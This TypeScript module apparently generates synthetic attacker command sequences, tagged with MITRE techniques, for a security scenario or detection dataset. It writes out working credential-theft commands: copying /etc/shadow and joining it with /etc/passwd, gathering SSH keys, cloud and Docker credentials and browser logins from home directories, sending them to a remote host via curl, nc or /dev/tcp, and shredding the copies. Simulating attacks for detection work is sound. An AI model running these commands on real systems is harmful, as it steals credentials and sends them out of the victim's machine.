import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';
import { link, look, maybe, remote, root, workFile, workFolder, write } from '../ways.ts';

function sendOff(draw: Draw, place: Place, path: string): string {
  const { host, port } = remote(draw, place);
  return draw.pick([
    `curl -s -F f=@${path} ${link(draw, place, '')} > /dev/null`,
    `curl -s --data-binary @${path} ${link(draw, place, '')} -o /dev/null`,
    `timeout 10 nc -q 1 ${host} ${port} < ${path} > /dev/null`,
    `base64 -w0 ${path} | curl -s -X POST -d @- ${link(draw, place, '')} > /dev/null`,
    `timeout 8 bash -c 'cat ${path} > /dev/tcp/${host}/${port}'`,
  ]);
}

/** The password hashes are read or copied, by chance joined with the accounts. */
const accounts: Attack = {
  name: 'credentials-of-accounts',
  family: 'credentials-of-accounts',
  techniques: ['T1003.008', 'T1552.001'],
  as: 'either',
  needs: ['curl', 'nc', 'python3', 'sudo'],
  lines: (draw, place) => {
    const copy = workFile(draw, place, draw.pick(['', '.txt', '.bak', '.dat']));
    const take = draw.pick([
      [`${root(place, `cat /etc/shadow`)} > ${copy}`],
      [root(place, `cp /etc/shadow ${copy}`), root(place, `chmod 644 ${copy}`)],
      [root(place, `bash -c "join -t: -j1 <(sort /etc/passwd) <(sort /etc/shadow) > ${copy}"`)],
      [
        `${root(
          place,
          `awk -F: 'NR==FNR{h[$1]=$2;next}{print $1":"h[$1]":"$3":"$4":"$5":"$6":"$7}' /etc/shadow /etc/passwd`,
        )} > ${copy}`,
      ],
      [
        root(place, `tar cf - /etc/passwd /etc/shadow /etc/group /etc/gshadow 2>/dev/null`) +
          ` | gzip > ${copy}`,
      ],
      [`${root(place, `python3 -c "print(open('/etc/shadow').read())"`)} > ${copy}`],
      [root(place, `dd if=/etc/shadow of=${copy} status=none`), root(place, `chmod a+r ${copy}`)],
    ]);
    return [
      ...look(draw, draw.int(2, 3)),
      ...maybe(draw, 0.5, draw.pick(['id', 'ls -l /etc/shadow', 'wc -l /etc/passwd', 'tail -5 /etc/passwd'])),
      ...take,
      ...maybe(draw, 0.5, `grep -aE ':\\$[0-9y]' ${copy} | cut -d: -f1`, `head -c 300 ${copy}`),
      ...maybe(draw, 0.5, sendOff(draw, place, copy)),
      ...maybe(draw, 0.5, root(place, `${draw.pick(['rm -f', 'shred -u'])} ${copy}`)),
    ];
  },
};

const PLACES: readonly string[] = [
  '.ssh/id_*',
  '.aws/credentials',
  '.config/gcloud/*.json',
  '.kube/config',
  '.netrc',
  '.git-credentials',
  '.docker/config.json',
  '.pgpass',
  '.my.cnf',
  '.npmrc',
  '.bash_history',
  '.mozilla/firefox/*/logins.json',
  '.config/google-chrome/Default/Login*',
];

/** Keys and stored secrets in the homes are looked for and gathered. */
const sweep: Attack = {
  name: 'credentials-in-homes',
  family: 'credentials-in-homes',
  techniques: ['T1552.001', 'T1552.004', 'T1555.003', 'T1083'],
  as: 'either',
  needs: ['curl', 'nc', 'python3'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const wanted = draw.some(PLACES, draw.int(4, 9));
    const all = wanted.map((path) => `/home/*/${path} /root/${path}`).join(' ');
    const script = `${folder}/${draw.word()}.py`;
    const gather = draw.pick([
      [`for f in ${all}; do [ -r "$f" ] && cp --parents "$f" ${folder}/ ; done 2>/dev/null`],
      [`cat ${all} 2>/dev/null > ${folder}/${draw.word()}`],
      [
        `find /home /root -maxdepth 4 \\( -name "id_rsa*" -o -name "id_ed*" -o -name "credentials*" -o -name "*.pem" -o -name ".netrc" \\) -exec cp {} ${folder} \\; 2>/dev/null`,
      ],
      [`tar czf ${folder}/${draw.word()}.tgz ${all} 2>/dev/null`],
      [
        write(
          draw,
          script,
          `import glob, shutil, os\nfor base in glob.glob("/home/*") + ["/root"]:\n  for name in ${JSON.stringify(wanted)}:\n    for path in glob.glob(os.path.join(base, name)):\n      try: shutil.copy(path, os.path.join("${folder}", path.replace("/", "_")))\n      except OSError: pass`,
        ),
        `python3 ${script}`,
      ],
    ]);
    const packed = workFile(draw, place, '.tar.gz');
    return [
      `mkdir -p ${folder}`,
      ...maybe(draw, 0.4, 'ls -la ~/.ssh ~/.aws 2>/dev/null', 'ls -d /home/*/.ssh'),
      ...gather,
      `ls -la ${folder}`,
      ...maybe(draw, 0.4, `grep -rl "PRIVATE KEY" ${folder}`),
      ...maybe(
        draw,
        0.5,
        `tar czf ${packed} -C ${folder} .`,
        sendOff(draw, place, packed),
        `rm -f ${packed}`,
      ),
      ...maybe(draw, 0.5, `rm -rf ${folder}`),
    ];
  },
};

/** One look at single files that hold secrets: a handful of events only. */
const glance: Attack = {
  name: 'credentials-at-a-glance',
  family: 'credentials-in-homes',
  techniques: ['T1552.001', 'T1552.003', 'T1552.004'],
  as: 'either',
  needs: ['curl'],
  lines: (draw, place) => {
    const { host, port } = remote(draw, place);
    const cat = draw.pick(['cat', 'head -50', 'base64 -w0', 'strings']);
    return [
      ...look(draw, draw.int(1, 3)),
      ...maybe(draw, 0.5, 'ls -la ~', 'ls -la ~/.ssh'),
      `${cat} ${draw.pick(['~/.ssh/id_*', '~/.aws/credentials', '~/.bash_history', '/home/*/.ssh/id_*'])} 2>/dev/null`,
      `grep -iE "pass|token|key" ${draw.pick(['~/.bash_history', '~/.config/* -rs', '/home/*/.bash_history', '/opt/*/*.conf /opt/*/config* -rs'])} 2>/dev/null | head`,
      ...maybe(
        draw,
        0.6,
        `cat ~/.ssh/id_* 2>/dev/null | curl -s --data-binary @- http://${host}:${port}/${draw.word()} > /dev/null`,
      ),
    ];
  },
};

export const CREDENTIALS: readonly Attack[] = [accounts, sweep, glance];
